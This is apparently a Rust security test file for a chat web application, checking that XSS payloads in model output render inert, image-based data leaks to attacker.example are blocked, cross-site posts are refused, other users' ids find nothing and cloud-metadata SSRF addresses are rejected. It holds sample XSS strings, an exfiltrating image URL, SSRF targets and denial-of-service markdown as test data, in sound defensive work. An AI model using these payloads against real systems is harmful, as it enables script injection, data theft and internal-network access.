//! Security: model output is inert and loads no remote images, hostile markdown does not stall
//! the server, cross-site posts are refused, headers are set, another user's ids find nothing,
//! and bad input gets clear errors.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use loquat_core::ErrorKind;
use loquat_core::id::UserId;
use loquat_core::service::SendMessage;
use loquat_test_support::fake_openai::Reply;

use crate::helpers::{TestApp, TestOptions};

const PAYLOADS: &str = "<script>alert('x')</script>\n\n<img src=x onerror=alert(1)>\n\n\
[click](javascript:alert(1)) [click2](JAVASCRIPT:alert(2)) [data](data:text/html;base64,PHNjcmlwdD4=)\n\n\
<iframe src=\"https://evil.example\"></iframe><svg onload=alert(3)></svg><style>body{display:none}</style>\n\n\
<a href=\"javascript:alert(4)\">raw link</a> ![img](javascript:alert(5))";

fn assert_inert(html: &str) {
    // Look inside real tags only: escaped payload text (`&lt;img onerror=…&gt;`) is harmless.
    for tag in html.split('<').skip(1).map(|piece| piece.split('>').next().unwrap_or_default().to_ascii_lowercase()) {
        // Loquat's own icons are `<svg aria-hidden="true">` and nothing more; a model's would carry more.
        if tag == r#"svg aria-hidden="true""# {
            continue;
        }
        for forbidden in ["script", "iframe", "style", "svg ", "object", "embed"] {
            assert!(!tag.starts_with(forbidden), "found a <{forbidden}> tag in rendered model output: <{tag}>");
        }
        for forbidden in ["onerror", "onload", "onclick", "javascript:", "data:text"] {
            assert!(!tag.contains(forbidden), "found {forbidden:?} in a tag of rendered model output: <{tag}>");
        }
    }
}

#[tokio::test]
async fn model_output_cannot_run_script() {
    let app = TestApp::spawn().await;
    let assistant = app.default_assistant().await;
    app.fake.push_reply(Reply::chunks(PAYLOADS.split_inclusive(' ').map(str::to_owned).collect::<Vec<_>>()));
    let sent = app.send(assistant, None, "<b>user html</b> <script>alert('me')</script>").await;
    let events = app.events(sent.answer).await;
    for (_, data) in &events {
        assert_inert(data["html"].as_str().unwrap_or_default());
    }
    let (_, page) = app.page(&format!("/chat/{assistant}/{}", sent.topic)).await;
    let messages = page.split("id=\"messages\"").nth(1).expect("message list");
    assert_inert(messages);
    assert!(messages.contains("&lt;script&gt;alert"), "the payload is shown as text");
    assert!(!messages.contains("<b>user html</b>"), "user HTML is not passed through either");
    app.cleanup().await;
}

/// Real `<img>` tags whose `src` is on `host` (escaped text does not count).
fn images_from(html: &str, host: &str) -> usize {
    html.split('<')
        .skip(1)
        .filter(|tag| tag.starts_with("img ") && tag.split('>').next().unwrap_or_default().contains(host))
        .count()
}

#[tokio::test]
async fn model_output_cannot_load_remote_images() {
    let app = TestApp::spawn_with(TestOptions {
        configure: |config| config.image_hosts = "img.example.com".into(),
        ..TestOptions::default()
    })
    .await;
    let assistant = app.default_assistant().await;
    let answer = "Look: ![x](https://attacker.example/?q=secret) and ![chart](https://img.example.com/c.png)";
    app.fake.push_reply(Reply::text(answer));
    let sent = app.send(assistant, None, "show me ![me](https://attacker.example/?q=mine)").await;
    let events = app.events(sent.answer).await;
    assert_eq!(events.last().map(|(name, _)| name.as_str()), Some("done"));
    for (_, data) in &events {
        let html = data["html"].as_str().unwrap_or_default();
        assert_eq!(images_from(html, "attacker.example"), 0, "{html}");
    }
    let (_, page) = app.page(&format!("/chat/{assistant}/{}", sent.topic)).await;
    let messages = page.split("id=\"messages\"").nth(1).expect("message list");
    assert_eq!(images_from(messages, "attacker.example"), 0, "no image from an unknown host loads");
    assert!(messages.contains("class=\"image-link\" href=\"https://attacker.example/?q=secret\""), "shown as a link");
    assert!(messages.contains(">x</a>"), "with its alt text");
    assert_eq!(images_from(messages, "https://img.example.com/c.png"), 1, "an allowed host's image loads");

    let response = app.client.get(app.url(&format!("/chat/{assistant}"))).send().await.expect("page");
    let csp = response.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
    assert!(csp.contains("img-src 'self' data: https://img.example.com;"), "{csp}");
    assert!(!csp.split(';').any(|directive| directive.split_whitespace().any(|source| source == "https:")), "{csp}");
    app.cleanup().await;
}

/// Markdown that used to render in time quadratic in its length (tens of seconds each, on the
/// async workers): deep quotes, deep lists, quotes in lists, and a URL ending in `)`s.
fn hostile_markdown() -> Vec<String> {
    vec![
        ">".repeat(100_000),
        "* > ".repeat(40_000),
        "1. ".repeat(60_000),
        format!("see https://x.io/{}", ")".repeat(100_000)),
    ]
}

/// `text` in 4 KB chunks, as a model would stream it.
fn chunked(text: &str) -> Vec<String> {
    text.as_bytes().chunks(4096).map(|chunk| String::from_utf8_lossy(chunk).into_owned()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_markdown_does_not_stall_the_server() {
    let app = TestApp::spawn().await;
    let assistant = app.default_assistant().await;
    let user = app.admin().await;
    // Stored through the services, so no view has rendered (and cached) them yet; the answers
    // are hostile too.
    let mut topics = Vec::new();
    for markdown in hostile_markdown() {
        app.fake.push_reply(Reply::chunks(chunked(&markdown)));
        let send = SendMessage {
            assistant_id: assistant,
            topic_id: None,
            content: markdown,
            file_ids: Vec::new(),
            language: "en".into(),
        };
        let exchange = app.services.chat.send_message(user, send).await.expect("sent");
        app.finished(exchange.answer.id).await;
        app.titled(exchange.topic.id).await;
        topics.push(exchange.topic.id);
    }
    // And one answer streams deep quotes while the pages are viewed.
    let streamed = "> ".repeat(80_000);
    app.fake.push_reply(Reply::chunks(chunked(&streamed)).delay_between_chunks(Duration::from_millis(25)));
    let live = app.send(assistant, None, "quote me").await;

    let stop = Arc::new(AtomicBool::new(false));
    let prober = tokio::spawn({
        let (stop, client, url) = (stop.clone(), reqwest::Client::new(), app.url("/healthz"));
        async move {
            let mut slowest = Duration::ZERO;
            while !stop.load(Ordering::Relaxed) {
                let started = Instant::now();
                let response = client.get(&url).timeout(Duration::from_secs(60)).send().await;
                assert_eq!(response.expect("healthz answers").status().as_u16(), 200);
                slowest = slowest.max(started.elapsed());
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            slowest
        }
    });
    let urls: Vec<String> =
        topics.iter().flat_map(|topic| [topic, topic]).map(|topic| format!("/chat/{assistant}/{topic}")).collect();
    let views = urls.iter().map(|url| app.page(url));
    let work = async { tokio::join!(futures_util::future::join_all(views), app.events(live.answer)) };
    let finished = tokio::time::timeout(Duration::from_secs(60), work).await;
    stop.store(true, Ordering::Relaxed);
    let slowest = prober.await.expect("prober");
    let (pages, events) = finished.expect("the views and the stream finish");
    println!("slowest /healthz while rendering: {slowest:?}");
    assert!(slowest < Duration::from_secs(1), "/healthz took {slowest:?} while hostile markdown rendered");
    for (status, page) in &pages {
        assert_eq!(*status, 200);
        assert_inert(page.split("id=\"messages\"").nth(1).expect("message list"));
    }
    assert!(pages[0].1.contains("&gt;&gt;&gt;&gt;"), "quotes too deep are shown as text");
    assert!(events.iter().any(|(name, _)| name == "render"), "the answer streamed");
    assert_eq!(events.last().map(|(name, _)| name.as_str()), Some("done"));
    app.cleanup().await;
}

#[tokio::test]
async fn cross_site_posts_are_refused_and_headers_are_set() {
    let app = TestApp::spawn().await;
    let assistant = app.default_assistant().await;
    let response = app
        .client
        .post(app.url(&format!("/chat/{assistant}/send")))
        .header("origin", "https://evil.example")
        .form(&[("content", "hi"), ("topic_id", "")])
        .send()
        .await
        .expect("post");
    assert_eq!(response.status().as_u16(), 403);
    let response =
        app.client.post(app.url("/settings/theme")).header("sec-fetch-site", "cross-site").send().await.expect("post");
    assert_eq!(response.status().as_u16(), 403);
    assert!(app.fake.requests().is_empty());

    let response = app.client.get(app.url(&format!("/chat/{assistant}"))).send().await.expect("page");
    let headers = response.headers();
    let csp = headers["content-security-policy"].to_str().expect("ascii");
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"));
    assert!(!csp.contains("unsafe-inline"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "same-origin");
    let body = response.text().await.expect("body");
    assert!(!body.contains("<script>"), "no inline scripts");
    app.cleanup().await;
}

#[tokio::test]
async fn another_users_ids_find_nothing() {
    let app = TestApp::spawn().await;
    let assistant = app.default_assistant().await;
    let sent = app.send(assistant, None, "mine").await;
    app.finished(sent.answer).await;
    let services = &app.services;
    let stranger = UserId::new();
    let not_found = |result: Result<(), loquat_core::CoreError>| {
        assert_eq!(result.expect_err("must fail").kind(), ErrorKind::NotFound);
    };
    not_found(services.assistants.assistant(stranger, assistant).await.map(|_| ()));
    not_found(services.assistants.conversation(stranger, sent.topic).await.map(|_| ()));
    not_found(services.assistants.message(stranger, sent.answer).await.map(|_| ()));
    not_found(services.chat.stop_generation(stranger, sent.answer).await);
    not_found(services.chat.regenerate(stranger, sent.answer, "en").await.map(|_| ()));
    not_found(services.chat.edit_message(stranger, sent.answer, "x", "en").await.map(|_| ()));
    not_found(services.assistants.switch_branch(stranger, sent.answer).await.map(|_| ()));
    not_found(services.chat.delete_message(stranger, sent.answer).await.map(|_| ()));
    not_found(services.assistants.rename_topic(stranger, sent.topic, "stolen").await);
    not_found(services.assistants.delete_topic(stranger, sent.topic).await);
    not_found(services.chat.attach(stranger, sent.answer).await.map(|_| ()));
    not_found(services.assistants.delete_assistant(stranger, assistant).await);
    let send = loquat_core::service::SendMessage {
        assistant_id: assistant,
        topic_id: Some(sent.topic),
        content: "intrude".into(),
        file_ids: Vec::new(),
        language: "en".into(),
    };
    not_found(services.chat.send_message(stranger, send).await.map(|_| ()));
    // Everything is still there for the owner.
    let conversation = services.assistants.conversation(app.admin().await, sent.topic).await.expect("still mine");
    assert_eq!(conversation.branch.len(), 2);
    assert_ne!(conversation.topic.title, "stolen");
    app.cleanup().await;
}

#[tokio::test]
async fn bad_input_gets_clear_errors() {
    let app = TestApp::spawn().await;
    let assistant = app.default_assistant().await;
    for path in ["/chat/not-an-id", "/chat/01900000-0000-7000-8000-00000000dead", "/messages/xyz/raw", "/nowhere"] {
        let (status, body) = app.page(path).await;
        assert_eq!(status, 404, "{path}");
        assert!(body.contains("does not exist"), "{path}: a friendly page");
    }
    let empty = app
        .client
        .post(app.url(&format!("/chat/{assistant}/send")))
        .header("accept", "application/json")
        .form(&[("content", "   "), ("topic_id", "")])
        .send()
        .await
        .expect("send");
    assert_eq!(empty.status().as_u16(), 422);
    let huge = "x".repeat(3 * 1024 * 1024);
    let response = app
        .client
        .post(app.url(&format!("/chat/{assistant}/send")))
        .form(&[("content", huge.as_str()), ("topic_id", "")])
        .send()
        .await
        .expect("send");
    assert_eq!(response.status().as_u16(), 413);
    let malformed = app
        .client
        .post(app.url(&format!("/chat/{assistant}/send")))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("topic_id=%ZZ")
        .send()
        .await
        .expect("send");
    assert!(malformed.status().is_client_error());
    assert!(app.fake.requests().is_empty());
    app.cleanup().await;
}

/// Signs a second, ordinary user in (invited by the admin); returns their client.
async fn second_user(app: &TestApp) -> reqwest::Client {
    let invite = app
        .services
        .admin
        .admin_create_invite(
            app.admin().await,
            loquat_core::domain::Role::User,
            std::time::Duration::from_secs(600),
            &Default::default(),
        )
        .await
        .expect("invite");
    let bob = crate::helpers::cookie_client();
    app.sign_up(&bob, "Bob", "bob@example.com", "bobs long password", invite.code.expose()).await;
    bob
}

/// What stands in a route's parameters: the first user's objects, by what the route is about.
struct Fillers {
    assistant: String,
    topic: String,
    message: String,
    own_assistant: String,
    provider: String,
    token: String,
    admin: String,
    invite: String,
    mcp_server: String,
}

impl Fillers {
    /// The path with its parameters filled, and whether it names one of the first user's
    /// objects (then another user must find nothing).
    fn fill(&self, path: &str) -> (String, bool) {
        let mut owned = false;
        let mut filled = String::new();
        for segment in path.split('/').skip(1) {
            let value = match segment {
                "{assistant}" => Some(self.assistant.clone()),
                "{topic}" => Some(self.topic.clone()),
                "{hash}" => Some(self.invite.clone()),
                "{id}" if path.starts_with("/messages/") => Some(self.message.clone()),
                "{id}" if path.starts_with("/topics/") => Some(self.topic.clone()),
                "{id}" if path.starts_with("/assistants/") => Some(self.own_assistant.clone()),
                "{id}" if path.starts_with("/settings/providers/") => Some(self.provider.clone()),
                "{id}" if path.starts_with("/settings/mcp/") => Some(self.mcp_server.clone()),
                "{id}" if path.starts_with("/account/tokens/") => Some(self.token.clone()),
                "{id}" if path.starts_with("/admin/users/") => Some(self.admin.clone()),
                "{*id}" => Some(format!("assistant/{}", self.own_assistant)),
                _ => None,
            };
            let segment = match value {
                Some(value) => {
                    owned = true;
                    value
                }
                None => match segment {
                    // Names that are nobody's objects.
                    "{id}" if path.starts_with("/settings/server-providers/") => "openai".to_owned(),
                    "{action}" => "disable".to_owned(),
                    "{setting}" => "registration".to_owned(),
                    "{idp}" => "generic-oidc".to_owned(),
                    "{name}" => "app.css".to_owned(),
                    "{*rest}" => "nothing-here".to_owned(),
                    // A parameter this test does not know yet: a random id must find nothing.
                    unknown if unknown.starts_with('{') => {
                        owned = true;
                        uuid::Uuid::now_v7().to_string()
                    }
                    literal => literal.to_owned(),
                },
            };
            filled.push('/');
            filled.push_str(&segment);
        }
        if filled.is_empty() {
            filled.push('/');
        }
        (filled, owned)
    }
}

/// A form with a plausible value for every field our forms have, so that only ownership and
/// roles can stop a request.
const ANY_FORM: &[(&str, &str)] = &[
    ("content", "intrude"),
    ("topic_id", ""),
    ("title", "stolen"),
    ("name", "stolen"),
    ("model", "openai::gpt-4o"),
    ("role", "user"),
    ("days", "7"),
    ("mode", "open"),
    ("base_url", "http://127.0.0.1:9/v1"),
    ("protocol", "openai"),
    ("password", "a stolen long password"),
    ("provider", "openai"),
    ("transport", "http"),
    ("target", "https://93.184.215.14/mcp"),
];

/// Public routes: they need no session (signing in, probes, assets, shared topics).
fn is_public(path: &str) -> bool {
    matches!(path, "/login" | "/register" | "/access" | "/logout" | "/healthz" | "/readyz" | "/metrics")
        || path.starts_with("/api/auth/")
        || path.starts_with("/static/")
        || path.starts_with("/share/")
}

#[tokio::test]
async fn every_route_refuses_another_users_ids_members_on_admin_routes_and_tokens_on_pages() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let assistant = app.default_assistant().await;
    let sent = app.send(assistant, None, "private").await;
    app.finished(sent.answer).await;
    let services = &app.services;
    let own = services
        .assistants
        .create_assistant(admin, loquat_core::domain::AssistantConfig { title: "Mine".into(), ..Default::default() })
        .await
        .expect("assistant");
    let provider = services
        .providers
        .create_provider(
            admin,
            loquat_core::domain::ProviderDraft {
                name: "Private".into(),
                protocol: loquat_core::domain::Protocol::OpenAi,
                base_url: "https://example.com/v1".into(),
                api_key: Some(loquat_core::Secret::new("sk-private")),
                model_list: "m".into(),
                api_version: String::new(),
                enabled: true,
            },
        )
        .await
        .expect("provider");
    let (admin_token, token) =
        services.accounts.create_api_token(admin, "mine", &Default::default()).await.expect("token");
    let invite = services
        .admin
        .admin_create_invite(
            admin,
            loquat_core::domain::Role::User,
            std::time::Duration::from_secs(600),
            &Default::default(),
        )
        .await
        .expect("invite");
    // A public literal address: the guard lets it be stored without resolving anything.
    let server = loquat_core::service::McpServerDraft {
        name: "mine".into(),
        transport: Some(loquat_core::domain::McpTransport::Http),
        target: "https://93.184.215.14/mcp".into(),
        enabled: true,
        ..Default::default()
    };
    let server = services.tools.add_mcp_server(admin, server, &Default::default()).await.expect("MCP server");
    let fillers = Fillers {
        assistant: assistant.to_string(),
        topic: sent.topic.to_string(),
        message: sent.answer.to_string(),
        own_assistant: own.id.to_string(),
        provider: provider.setting.id.to_string(),
        token: token.id,
        admin: admin.to_string(),
        invite: invite.invite.code_hash.clone(),
        mcp_server: server.server.id.to_string(),
    };
    let (bob, bob_id) = crate::hardening::member(&app, "Bob").await;
    let (bob_token, _) = services.accounts.create_api_token(bob_id, "bob's", &Default::default()).await.expect("token");
    let routes = loquat_web::route_list();
    assert!(routes.len() > 50, "the route table is walked, not a copy of it");
    for (method, path) in &routes {
        let (url, owned) = fillers.fill(path);
        let api = path.starts_with("/v1/");
        let mut request = bob.request(method.clone(), app.url(&url)).header("accept", "application/json");
        if api {
            request = request.bearer_auth(bob_token.expose());
        }
        if *method == reqwest::Method::POST {
            request = request.form(ANY_FORM);
        }
        let status = request.send().await.expect("request").status().as_u16();
        assert!(status < 500, "{method} {url} as another user: {status}");
        if owned || (path.starts_with("/admin") && !api) {
            assert_eq!(status, 404, "{method} {url} as another user (a member)");
        }
        // Routes that end the member's own session (sign out, everywhere): sign back in.
        let account = bob.get(app.url("/account")).header("accept", "application/json").send().await;
        if account.expect("account").status().as_u16() == 401 {
            assert_eq!(app.sign_in(&bob, "bob@example.com", "a long enough password").await, 303);
        }

        // A personal API token opens no page: a leaked one must not reach the admin panel.
        if !api && !is_public(path) {
            let mut request = reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .expect("client")
                .request(method.clone(), app.url(&url))
                .bearer_auth(admin_token.expose())
                .header("accept", "application/json");
            if *method == reqwest::Method::POST {
                request = request.form(ANY_FORM);
            }
            let status = request.send().await.expect("request").status().as_u16();
            assert_eq!(status, 401, "{method} {url} with an API token instead of a session");
        }
    }
    // Nothing changed for the owner.
    let conversation = services.assistants.conversation(admin, sent.topic).await.expect("still there");
    assert_eq!(conversation.branch.len(), 2);
    assert_ne!(conversation.topic.title, "stolen");
    assert_eq!(services.assistants.assistant(admin, own.id).await.expect("still there").config.title, "Mine");
    assert_eq!(
        services.providers.provider_setting(admin, provider.setting.id).await.expect("still there").setting.name,
        "Private"
    );
    assert_eq!(services.accounts.api_tokens(admin).await.expect("tokens")[0].revoked_at, None);
    let me = services.accounts.user(admin).await.expect("admin");
    assert_eq!((me.role, me.disabled), (loquat_core::domain::Role::Admin, false));
    let invites = services.admin.admin_invites(admin).await.expect("invites");
    assert!(invites.iter().any(|invite| invite.code_hash == fillers.invite && invite.used_by.is_none()));
    app.cleanup().await;
}

#[tokio::test]
async fn a_members_own_provider_cannot_reach_the_private_network() {
    let app = TestApp::spawn().await;
    let bob = second_user(&app).await;
    let base_url = app.fake.base_url();
    let saved = bob
        .post(app.url("/settings/providers"))
        .form(&[
            ("name", "Local"),
            ("protocol", "openai"),
            ("base_url", base_url.as_str()),
            ("model_list", "m"),
            ("enabled", "on"),
        ])
        .send()
        .await
        .expect("save");
    assert_eq!(saved.status().as_u16(), 303);
    let probe: serde_json::Value = bob
        .post(app.url("/settings/providers/probe"))
        .header("accept", "application/json")
        .form(&[("name", "Local"), ("protocol", "openai"), ("base_url", base_url.as_str())])
        .send()
        .await
        .expect("probe")
        .json()
        .await
        .expect("json");
    assert_eq!(probe["ok"], false, "{probe}");
    assert!(app.fake.requests().is_empty(), "the guard refused before connecting");
    for metadata in ["http://169.254.169.254/v1", "http://[::ffff:127.0.0.1]:9/v1", "http://2130706433/v1"] {
        let probe: serde_json::Value = bob
            .post(app.url("/settings/providers/probe"))
            .header("accept", "application/json")
            .form(&[("name", "x"), ("protocol", "openai"), ("base_url", metadata)])
            .send()
            .await
            .expect("probe")
            .json()
            .await
            .expect("json");
        assert_eq!(probe["ok"], false, "{metadata}: {probe}");
    }
    // The admin's own provider on the same address is trusted.
    let admin_probe: serde_json::Value = app
        .client
        .post(app.url("/settings/providers/probe"))
        .header("accept", "application/json")
        .form(&[("name", "Local"), ("protocol", "openai"), ("base_url", base_url.as_str())])
        .send()
        .await
        .expect("probe")
        .json()
        .await
        .expect("json");
    assert_eq!(admin_probe["ok"], true, "{admin_probe}");
    app.cleanup().await;
}
